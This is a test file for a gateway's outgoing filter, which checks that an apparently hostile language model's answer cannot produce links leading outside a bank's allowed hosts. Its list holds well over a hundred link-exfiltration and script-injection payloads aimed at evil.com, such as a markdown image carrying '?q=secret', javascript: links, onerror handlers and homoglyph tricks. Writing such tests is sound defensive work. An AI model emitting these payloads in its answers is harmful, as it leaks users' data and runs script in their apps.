"""A hostile model's answer as apps render it: nothing leads out of the bank, however it is written."""

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from gateway.runs.outgoing import OutgoingFilter
from tests.support.options import examples
from tests.support.rendering import is_allowed, leads

HOSTS = frozenset({"bank.example", "help.bank.example"})

TRICKS = """
![a](https://evil.com/?q=secret)
![a][x]\\n\\n[x]: https://evil.com/p.png
[x]: <https://evil.com>\\n[x]
[x]:\\n   https://evil.com/a "t"\\n![][x]
[x\\ny]: /transfer\\n[x y]
[a](https://evil.com "t")
[a](\\nhttps://evil.com\\n)
[a](<https://evil.com/a b>)
[a](&#104;ttps://evil.com)
[a](https&colon;//evil.com)
[a](\\/\\/evil.com)
[a](https:\\/\\/evil.com)
[a](//evil.com)
[a](/\\evil.com)
[a](\\\\evil.com)
[a](/logout)
[a](javascript:alert(1))
[a](JaVaScRiPt&colon;alert(1))
[a](java\\tscript:alert(1))
[a](data:text/html;base64,PHNjcmlwdD4=)
[a](vbscript:x)
[![a](https://bank.example/x)](https://evil.com)
[![a](https://evil.com)](https://bank.example/x)
[a[b]](https://evil.com)
[a\\]](https://evil.com)
[a](https://bank.example@evil.com/x)
[a](https://bank.example:443@evil.com/x)
[a](https://bank.example:8443/x)
[a](https://bank.example%40evil.com/)
[a](https://bank.example\\@evil.com/)
[a](https://bank.example.evil.com/x)
[a](https://bank.example&period;evil.com/x)
[a](https://xbank.example/)
[a](http://bank.example/)
[a](https:bank.example/)
[a](https:///evil.com)
[a](https://b\u0430nk.example/x)
[a](https://bank\u3002example.evil.com/)
[a](https://bank.example\uff0eevil.com/)
[a](https://bank.example\u2024evil.com)
[a](https://ev\u200bil.com/)
[a](ht\u00adtps://evil.com)
[a](\u202ehttps://evil.com)
<https://evil.com>
<https://evil.com/a?b=c>
<javascript:alert(1)>
<x@evil.com>
<mailto:x@evil.com>
<https://bank.example/onclick=alert`1`>
<https://bank.example/ onclick=alert(1)>
<https://bank.example/x\\nonmouseover=alert(1)>
<a href="https://evil.com">x</a>
<a href='//evil.com'>x</a>
<a href=//evil.com>x</a>
<a\\nhref\\n=\\n"https://evil.com">x</a>
<a href="ht\\ntps://evil.com">x</a>
<a/href=//evil.com>
<img src=x onerror=alert(1)>
<img/src="https://evil.com/x"/>
<IMG SRC=&#x68;ttps://evil.com>
<im\u200bg src=https://evil.com>
<scr<b>ipt>alert(1)</script>
<script src=//evil.com></script>
<svg><image href="//evil.com"/></svg>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<meta http-equiv=refresh content="0;url=//evil.com">
<link rel=stylesheet href=//evil.com>
<base href=//evil.com>
<style>@import url(//evil.com)</style>
<div style="background:url(//evil.com/x)">
<iframe srcdoc="<img src=//evil.com>">
<form action=//evil.com><button>
<object data=//evil.com>
<!--><img src=//evil.com>-->
<!-- x --!><img src=//evil.com>
<![CDATA[<img src=//evil.com>]]>
<!DOCTYPE html SYSTEM "//evil.com">
<?xml-stylesheet href="//evil.com"?>
<a title=">" href=//evil.com>
<<a href=//evil.com>
<img src=//evil.com
`<img src=//evil.com>`
&lt;img src=//evil.com&gt;
\\u003cimg src=x onerror=alert(1)\\u003e
[a]\\u0028https://evil.com)
https://evil.com
HTTPS://EVIL.COM/x
https://EVIL\uff0eCOM
https:\\\\evil.com\\x
https:/\\/evil.com
https://bank.example@evil.com
https://user:pw@bank.example/
https://bank.example,evil.com
https://bank.example*x.evil.com
https://bank.example).x.evil.com
https://bank.example"x.evil.com
https://bank.example.
https://bank.example;evil.com/
https://bank.example/x@evil.com
https://bank.example/?u=https://evil.com
https://bank.example//evil.com https://evil.com//bank.example/
'https://bank.example/'evil.com/
https://[::1]/
https://1.2.3.4/x
1.2.3.4/x 10.0.0.1
https://2130706433/
https%3A%2F%2Fevil.com
https&#58;&#47;&#47;evil.com
https&colon;&sol;&sol;evil.com
https&#58//evil.com
www.evil.com
www&period;evil&period;com
www\\.evil\\.com
//evil.com/x
\\\\evil.com\\share
evil.com/x
evil.com?q=1
evil.com:8080
evil.com#x
evil.com
secret.evil.com.
e\\vil.com
evil\\.com
ev\u200bil.com/x
evil\uff0ecom/x
evil\u3002com/x
xn--80ak6aa92e.com/x
\u0435vil.com/x
evil.\u0440\u0444/x
evil.xn--p1ai
x@evil.com
x@evil.com|1
x@evil.com*1*
x@evil.com_1
x@1.2.3.4
x@localhost
mailto:x@evil.com?body=secret
tel:+15551234
sms:+15551234?body=x
ftp://evil.com
file:///etc/passwd
ws://evil.com
intent://evil.com#Intent;end
view-source:https://bank.example/
\\href{https://evil.com}{x}
$\\url{//evil.com}$
"\\nhttps://evil.com" \\nwww.evil.com
{"u":"https:\\/\\/evil.com\\/x"}
**https://evil.com** __https://evil.com__ ~~evil.com~~ `evil.com`
https://**evil.com** https://_evil_.com
| https://evil.com | evil.com/x |
> [a]: https://evil.com
- [a]: /x\\n- [a]
[^1]: https://evil.com
[a]\u200b(https://evil.com)
!\u200b[a](https://evil.com)
[link removed]: https://evil.com
[link removed]: /x\\n\\n[link removed]
//evil.com: /x\\n\\n//evil.com
//evil.com(/x)
//evil.com[x](/y)
""".strip().splitlines()


def said(text: str) -> str:
    outgoing = OutgoingFilter(HOSTS, frozenset())
    return outgoing.feed(text) + outgoing.end()


def unfolded(trick: str) -> str:
    return trick.replace("\\n", "\n").replace("\\t", "\t")


@pytest.mark.parametrize("trick", [*TRICKS, *dict.fromkeys(unfolded(it) for it in TRICKS if unfolded(it) != it)])
@pytest.mark.parametrize("around", ["{}", "see {} now", "**{}**", "a ({}).", "\n\n> {}\n\n", '{{"x":"{}"}}'])
def test_no_known_trick_leads_out(trick: str, around: str) -> None:
    out = said(around.format(trick))
    assert [it for it in leads(out) if not is_allowed(it, HOSTS)] == []
    assert said(out) == out


FRAGMENTS = [
    *"<>[]()!:/\\.@&#;\"'*_`|{}=?%,~^+-$ \n\t\r\u200b\u200d\u00ad\u202e\ufe0f\u00a0\u2028\x00\ud800．。／：＠﹫＜⁄é‹你",
    *("a", "img", "src=", "href=", "onerror=", "<a", "<img", "</a", "<!--", "-->", "](", "]:", "[x]:", "![", "//", "\\\\", "\n\n"),
    *("https", "https:", "https://", "http://", "javascript:", "data:", "mailto:", "www.", "evil", ".com", "evil.com", "бank"),
    *("bank.example", "https://bank.example", "https://bank.example/x", "x@evil.com", "1.2.3.4", "xn--p1ai", ".xn--p1ai"),
    *("&#47;", "&colon;", "&sol;", "&period;", "&lt;", "%2f", "%40", "\\u003c", "\\u002f"),
]
HOSTILE = st.lists(st.sampled_from(FRAGMENTS) | st.text(max_size=3), max_size=14).map("".join)


@settings(max_examples=examples(1500), deadline=None)
@given(HOSTILE)
@example("＜.com src=.com `.com")
@example("1.2.3.4.com0 https://bank.example| https://bank.example~ `https://bank.example`")
@example("x@evil.com<javascript: x@evil.com<!")
@example("~https://bank.example?evil.com `https://bank.example/evil.com` 你https://bank.example#evil.com")
@example("🏦.com 🏦evil.com/x")
@example("https://bank.example/x](//evil.com)")
def test_no_text_leads_out(text: str) -> None:
    out = said(text)
    assert [it for it in leads(out) if not is_allowed(it, HOSTS)] == []


def test_the_judges_see_the_tricks() -> None:
    caught = [it for it in TRICKS if any(not is_allowed(address, HOSTS) for address in leads(unfolded(it)))]
    assert len(caught) > 120
